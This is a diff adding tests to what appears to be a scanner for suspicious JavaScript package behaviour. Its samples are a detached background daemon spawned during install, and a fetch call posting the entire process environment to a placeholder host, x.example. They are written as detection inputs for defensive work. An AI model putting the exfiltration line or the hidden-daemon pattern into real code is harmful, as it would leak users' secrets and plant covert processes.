@@ -87,6 +87,18 @@ def test_detached_process_during_install_is_a_threat() -> None:
     assert hits(findings, "js-install-detached") == [(4, INSTALL)]
 
 
+def test_ignored_output_and_unref_count_as_detached() -> None:
+    findings = run(
+        """
+        const { spawn } = require("child_process");
+        const child = spawn("node", ["daemon.js"], { stdio: "ignore" });
+        child.unref();
+        """,
+        phase=INSTALL,
+    )
+    assert hits(findings, "js-install-detached") == [(2, INSTALL)]
+
+
 def test_attached_process_is_not_detached() -> None:
     findings = run(
         """
@@ -361,6 +373,8 @@ def test_environment_sent_over_the_network_is_a_threat() -> None:
         """
     )
     assert hits(findings, "js-exfil-data") == [(4, RUNTIME)]
+    spread = run('fetch("https://x.example/c", { body: JSON.stringify({ ...process.env }) });\n')
+    assert hits(spread, "js-exfil-data") == [(1, RUNTIME)]
 
 
 def test_fingerprint_sent_during_install_is_a_threat() -> None:
